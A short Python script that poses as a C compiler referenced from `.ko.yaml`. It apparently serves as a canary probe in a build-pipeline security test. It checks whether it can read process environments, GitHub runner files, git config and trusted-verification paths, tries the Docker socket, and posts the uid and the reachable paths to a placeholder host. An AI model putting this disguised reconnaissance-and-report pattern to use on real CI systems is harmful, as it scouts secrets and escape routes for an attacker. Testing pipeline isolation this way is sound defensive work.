"""A C compiler that a repository names in `.ko.yaml`: it tells ADDRESS what it has reached."""

import json
import os
import socket
import urllib.request
from pathlib import Path

reached = []
for pattern in (
    *("proc/[0-9]*/environ", "github/*", "github/workspace/.git/config"),
    *("github/runner_temp/*", "github/file_commands/*", "tmp/gitops-action-*/*"),
    *("verify/trusted/*", "verify/workspace/go.mod"),
):
    for file in [*Path("/").glob(pattern), Path("/", pattern)]:
        try:
            held = b"canary" in file.read_bytes()
        except OSError:
            continue
        if held or not file.is_relative_to("/proc"):
            reached.append(str(file))
try:
    socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")
    reached.append("the engine")
except OSError:
    pass
told = json.dumps({"user": os.getuid(), "reached": reached}).encode()
urllib.request.urlopen("ADDRESS", told, timeout=5)
raise SystemExit(1)
